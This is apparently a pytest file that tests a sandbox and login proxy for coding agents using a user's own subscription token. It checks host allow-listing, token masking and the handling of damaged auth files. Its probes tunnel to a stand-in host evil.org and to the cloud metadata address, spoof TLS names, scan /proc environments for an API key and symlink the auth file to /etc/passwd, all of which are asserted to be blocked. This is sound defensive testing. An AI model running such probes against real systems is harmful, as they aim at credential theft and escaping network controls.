"""A coding agent with a log-in of its own: what it reaches, and what happens to its tokens."""

import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from agent.agents.headless import HOME, FinalMessage, HeadlessCommand, HeadlessRequest, Program
from agent.agents.kinds import AGENTS
from agent.edits.guard import Guard
from agent.errors import MissingRequirementError, ModelError
from agent.execution.coding_agent.agent_job import AgentLimits
from agent.llm.login_proxy.proxy import Connect, TunnelLimits
from agent.modes.coding_agents.login_access import LoginAccess
from agent.modes.coding_agents.proposer import Agent, CodingAgentProposer
from agent.store.paths import RunPaths
from agent.trials.trial import Proposal, Status
from sandbox.job import Sandbox
from tests.agent.llm.login_proxy.hosts import CIPHERS, FakeHost, tls_host
from tests.agent.modes.coding_agents.conftest import BIGRAM, Run
from tests.agent.modes.run_so_far import BRIEFING, baseline, context

TOKEN = "tok-0123456789abcdef"
SOURCE = "DEPTH = 4  # layers\n\n\ndef load(path):\n    return path\n"
EDIT = "s = open('train.py').read().replace('DEPTH = 4', 'DEPTH = 6')\nopen('train.py', 'w').write(s)\n"
FILE = f"{HOME}/.codex/auth.json"
CLIENT = f"""
import json, os, re, socket, ssl, sys, urllib.error, urllib.request
TOKEN = json.load(open({FILE!r}))["access"]

def tunnel(target):
    host, port = re.fullmatch(r"http://([\\d.]+):(\\d+)", os.environ["HTTPS_PROXY"]).groups()
    raw = socket.create_connection((host, int(port)), timeout=60)
    raw.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\n\\r\\n".encode())
    said = b""
    while not said.endswith(b"\\r\\n\\r\\n") and (piece := raw.recv(1)):
        said += piece
    return raw, int(said.split()[1])

def call(host, sni=None):
    raw, status = tunnel(host + ":443")
    if status != 200:
        return status
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_ciphers({CIPHERS!r})
    with context.wrap_socket(raw, server_hostname=sni or host) as secure:
        secure.sendall(f"POST / HTTP/1.1\\r\\nAuthorization: Bearer {{TOKEN}}\\r\\n\\r\\n".encode())
        return secure.recv(1000).decode()
"""


class User:
    """A user with a log-in, and the proposer of a run that uses it."""

    def __init__(self, root: Path, sandbox: Sandbox, connect: Connect) -> None:
        self.root = root
        self.file = root / ".codex" / "auth.json"
        self.file.parent.mkdir()
        self.log_in(TOKEN)
        self._sandbox = sandbox
        self.access = LoginAccess(
            AGENTS["codex"], {"HOME": str(root)}, RunPaths(root / "r"), TunnelLimits(connect_seconds=60), connect
        )

    def log_in(self, token: str) -> None:
        self.file.write_text(json.dumps({"access": token}))
        self.file.chmod(0o600)

    def propose(self, code: str, *, number: int = 1, exit_text: str = "") -> Proposal:
        def headless(request: HeadlessRequest) -> HeadlessCommand:
            return HeadlessCommand((request.program, "-c", CLIENT + textwrap.dedent(code)), request.proxy_variables)

        def final_message(out: str) -> FinalMessage:
            return FinalMessage(out, exit_text)

        proposer = CodingAgentProposer(
            Agent("codex", "1.0", Program("python"), "m", headless, final_message),
            self.access,
            self._sandbox,
            briefing=BRIEFING,
            guard=Guard(required=("load",)),
            frozen={},
            paths=RunPaths(self.root / "r"),
            limits=AgentLimits(seconds=120),
            login=self.access,
        )
        return proposer.propose(replace(context(SOURCE, [baseline()]), number=number))

    def folder(self, number: int = 1) -> Path:
        return RunPaths(self.root / "r").trial(number).agent


@pytest.fixture
def user(sandbox: Sandbox, tmp_path: Path) -> Callable[[Connect], User]:
    return lambda connect: User(tmp_path, sandbox, connect)


def no_host(_host: str, _seconds: float) -> object:
    raise AssertionError("no test calls this")


def holds(folder: Path, text: str) -> list[Path]:
    """Return the files below a folder that contain a text."""
    return [path for path in folder.rglob("*") if path.is_file() and text.encode() in path.read_bytes()]


def test_the_agent_calls_its_provider_with_its_own_token(user: Callable[[Connect], User], tmp_path: Path) -> None:
    with tls_host() as host:
        found = user(host.connect).propose(f"assert call('chatgpt.com').endswith('hello')\n{EDIT}")
        assert found.refused is None, found.reason
        assert host.received == [f"POST / HTTP/1.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode()]
    assert found.usage is None
    assert Proposal.from_json(found.to_json()) == found
    log = json.loads((RunPaths(tmp_path / "r").trial(1).agent / "connections.json").read_text())
    assert (log["connections"], log["refused"]) == ({"chatgpt.com": 1}, {})
    assert holds(tmp_path / "r", TOKEN) == []


def test_it_reaches_nothing_but_the_hosts_of_its_provider(
    user: Callable[[Connect], User], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-the-users-key")
    code = """
        found = {}
        for target in ("evil.org:443", "api.anthropic.com:443", "127.0.0.1:443", "chatgpt.com:80", "[::1]:443",
                       "169.254.169.254:443", "chatgpt.com.evil.org:443", "localhost:8765"):
            found[target] = tunnel(target)[1]
        for url in ("http://chatgpt.com/", "http://169.254.169.254/latest/meta-data"):
            try:
                urllib.request.build_opener(urllib.request.ProxyHandler({"http": os.environ["HTTPS_PROXY"]})).open(url)
            except urllib.error.HTTPError as error:
                found[url] = error.code
        try:
            call("chatgpt.com", sni="evil.org")
        except OSError:
            found["another name in TLS"] = 403
        assert set(found.values()) == {403}, found
        for address in (("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 443)):
            try:
                socket.create_connection(address, timeout=5)
                raise SystemExit("reached " + str(address))
            except OSError as error:
                assert error.errno == 101, error  # ENETUNREACH
        try:
            socket.getaddrinfo("chatgpt.com", 443)
            raise SystemExit("resolved a name")
        except socket.gaierror:
            pass
        assert [name for name in os.listdir("/sys/class/net")] == ["lo"] if os.path.exists("/sys/class/net") else True
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    assert b"sk-the-users-key" not in open(f"/proc/{name}/environ", "rb").read()
                except OSError:
                    pass
    """
    with tls_host() as host:
        someone = user(host.connect)
        found = someone.propose(textwrap.dedent(code) + EDIT)
        assert found.refused is None, found.reason
        assert host.names == ["chatgpt.com"]
        assert host.received == []
    log = json.loads((someone.folder() / "connections.json").read_text())
    assert log["connections"] == {}
    assert sum(log["refused"].values()) == 11


def test_a_token_that_the_agent_prints_is_masked(user: Callable[[Connect], User], tmp_path: Path) -> None:
    code = f"""
        import subprocess
        print("my token is", TOKEN, file=sys.stderr)
        open(TOKEN, "w").write("x")
        open("/proc/1/fd/1", "w").write(TOKEN) if os.access("/proc/1/fd/1", os.W_OK) else None
        {EDIT.splitlines()[0]}
        {EDIT.splitlines()[1]}
        print("done with", TOKEN)
        print("TITLE: deeper " + TOKEN)
    """
    found = user(FakeHost(1).connect).propose(code)
    assert (found.refused, found.title) == (None, "deeper [secret]")
    assert found.agent is not None
    assert found.agent.changed == ("[secret]",)
    assert TOKEN not in json.dumps(found.to_json())
    assert holds(tmp_path / "r", TOKEN) == []


def test_a_script_with_a_token_is_refused(user: Callable[[Connect], User], tmp_path: Path) -> None:
    found = user(FakeHost(1).connect).propose("open('train.py', 'a').write(f'KEPT = {TOKEN!r}\\n')")
    assert found.refused is Status.INVALID_EDIT
    assert found.reason == "the agent left no train.py: it contains a token of the agent's log-in"
    assert holds(tmp_path / "r", TOKEN) == []


def test_renewed_tokens_are_given_to_the_next_proposal_and_not_written(
    user: Callable[[Connect], User], tmp_path: Path
) -> None:
    renewed, later = "tok-renewed-0123456789", "tok-of-a-later-log-in-0123"
    spelled = f"{renewed[:9]!r} + {renewed[9:]!r}"  # since the program itself is kept in the trial's folder
    someone = user(FakeHost(1).connect)
    own = someone.file.read_bytes()
    renew = f"json.dump({{'access': {spelled}}}, open({FILE!r}, 'w'))\n"
    assert someone.propose(renew + EDIT).refused is None
    assert someone.propose(f"assert TOKEN == {spelled}\n{EDIT}", number=2).refused is None
    assert someone.file.read_bytes() == own
    assert holds(tmp_path / "r", renewed) == []
    printed = someone.propose(f"print('TITLE: ' + TOKEN)\n{EDIT}", number=3)
    assert printed.title == "[secret]"
    someone.log_in(later)
    assert someone.propose(f"assert TOKEN == {later!r}, TOKEN\n{EDIT}", number=4).refused is None


@pytest.mark.parametrize(
    "code",
    [
        f"os.remove({FILE!r})",
        f"os.remove({FILE!r}); os.symlink('/etc/passwd', {FILE!r})",
        f"os.remove({FILE!r}); os.mkdir({FILE!r})",
        f"os.remove({FILE!r}); os.mkfifo({FILE!r})",
        f"open({FILE!r}, 'w').write('x' * 100_000)",
        f"open({FILE!r}, 'w').write('no json')",
        f"open({FILE!r}, 'w').write('[' * 20_000)",
    ],
)
def test_a_file_that_is_no_log_in_any_more_is_not_kept(user: Callable[[Connect], User], code: str) -> None:
    someone = user(FakeHost(1).connect)
    assert someone.propose(f"{code}\n{EDIT}").refused is None
    assert someone.propose(f"assert TOKEN == {TOKEN!r}\n{EDIT}", number=2).refused is None


@pytest.mark.parametrize(
    "expected",
    [
        *(
            "API Error: 401 expired " + TOKEN,
            "Not logged in · Please run /login",
            "Unauthorized",
            "refresh: invalid_grant",
        ),
        "Manual authorization is required but the current session is non-interactive.",
    ],
)
def test_a_log_in_that_is_refused_stops_the_run(user: Callable[[Connect], User], expected: str) -> None:
    with pytest.raises(
        ModelError, match=r"codex cannot reach its model: its log-in was refused: .*agent resume r"
    ) as it:
        user(FakeHost(1).connect).propose(f"{EDIT}\nsys.exit(1)", exit_text=expected)
    assert TOKEN not in str(it.value)


def test_another_failure_is_a_trial_without_proposal(user: Callable[[Connect], User]) -> None:
    found = user(FakeHost(1).connect).propose("sys.exit(3)", exit_text="no such model")
    assert (found.refused, found.reason) == (Status.NO_PROPOSAL, "codex ended with 3: no such model")


def test_a_host_that_cannot_be_reached_stops_the_run(user: Callable[[Connect], User]) -> None:
    def connect(_host: str, _seconds: float) -> object:
        raise OSError(111, "Connection refused")

    with pytest.raises(ModelError, match=r"chatgpt\.com cannot be reached \(Connection refused\)"):
        user(connect).propose(f"assert call('chatgpt.com') == 502\n{EDIT}")  # type: ignore[arg-type]


def test_a_log_in_that_is_gone_stops_the_run(user: Callable[[Connect], User]) -> None:
    someone = user(FakeHost(1).connect)
    someone.file.unlink()
    with pytest.raises(MissingRequirementError, match="there is no log-in"):
        someone.propose(EDIT)


PROGRAM = f"""#!/usr/bin/env python3
{CLIENT.replace(FILE, FILE)}
if sys.argv[1:] == ["--version"]:
    sys.exit("codex-cli {AGENTS["codex"].tested}")
assert tunnel("evil.org:443")[1] == 403
s = open("train.py").read()
open("train.py", "w").write(s.replace("SMOOTHING = 20.0", "SMOOTHING = 90.0"))
print(json.dumps({{"type": "item.completed", "item": {{"type": "agent_message", "text": "TITLE: smoother " + TOKEN}}}}))
""".replace("TOKEN = json.load", 'TOKEN = "--version" in sys.argv or json.load')


def test_a_whole_run(agent: Run, environment: dict[str, str], tmp_path: Path) -> None:
    program = tmp_path / "own" / "codex"
    program.write_text(PROGRAM)
    program.chmod(0o755)
    del environment["OPENAI_API_KEY"]
    begin = ["run", "--task", str(BIGRAM), "--mode", "code-edit", "--agent", "codex", "--agent-login", "--model", "m"]
    missing = agent(*begin, "--trials", "2", "--name", "r")
    assert (missing.returncode, missing.stderr.count("\n")) == (4, 1)
    assert f"there is no log-in at {tmp_path}/.codex/auth.json; run `codex login`" in missing.stderr
    assert not (tmp_path / "runs").exists()
    (tmp_path / ".codex").mkdir()
    (tmp_path / ".codex" / "auth.json").write_text(json.dumps({"access": TOKEN}))
    done = agent(*begin, "--trials", "2", "--name", "r")
    assert done.returncode == 0, done.stderr
    for part in ("can read the token and use your subscription", "chatgpt.com, auth.openai.com, api.openai.com",
                 "calls and tokens are not counted", "never tested with a real subscription"):  # fmt: skip
        assert part in done.stdout
    trial = json.loads(agent("log", "r", "--json").stdout)["trials"][1]
    assert (trial["title"], trial["status"], trial["usage"]) == ("smoother [secret]", "ok", None)
    assert agent("show", "r/1").returncode == 0
    assert json.loads((tmp_path / "runs/r/trials/0001/agent/connections.json").read_text())["refused"] == {
        "the proxy does not connect to evil.org:443": 1
    }
    assert holds(tmp_path / "runs", TOKEN) == []
    resumed = agent("resume", "r", "--trials", "3")
    assert resumed.returncode == 0, resumed.stderr
    assert "can read the token" in resumed.stdout
    capped = agent("resume", "r", "--trials", "4", "--max-tokens", "100")
    assert (capped.returncode, capped.stderr.count("\n")) == (2, 1)


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--max-cost", "1"], "--max-cost is not possible with --agent-login"),
        (["--max-tokens", "100"], "--max-tokens is not possible with --agent-login"),
        (["--agent-calls", "9"], "--agent-calls is not possible with --agent-login"),
        (["--record", "night.jsonl"], "--record is not possible with --agent-login"),
        (["--price", "1,2"], "--price is not possible with --agent-login"),
        (["--model", "replay:night.jsonl"], "with --agent-login nothing is recorded or replayed"),
        (["--agent", "small-agent {prompt}"], "--agent-login is for claude, codex, opencode, gemini"),
    ],
)
def test_what_a_log_in_cannot_do_is_refused(agent: Run, tmp_path: Path, argv: list[str], message: str) -> None:
    begin = ["run", "--task", str(BIGRAM), "--mode", "code-edit", "--agent", "codex", "--agent-login", "--model", "m"]
    done = agent(*begin, *argv)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert message in done.stderr
    assert not (tmp_path / "runs").exists()


def test_a_log_in_is_for_an_agent(agent: Run) -> None:
    done = agent("run", "--task", str(BIGRAM), "--mode", "code-edit", "--agent-login", "--model", "m")
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert "--agent-login is for a coding agent: add --agent NAME" in done.stderr
    assert os.path.exists(BIGRAM)
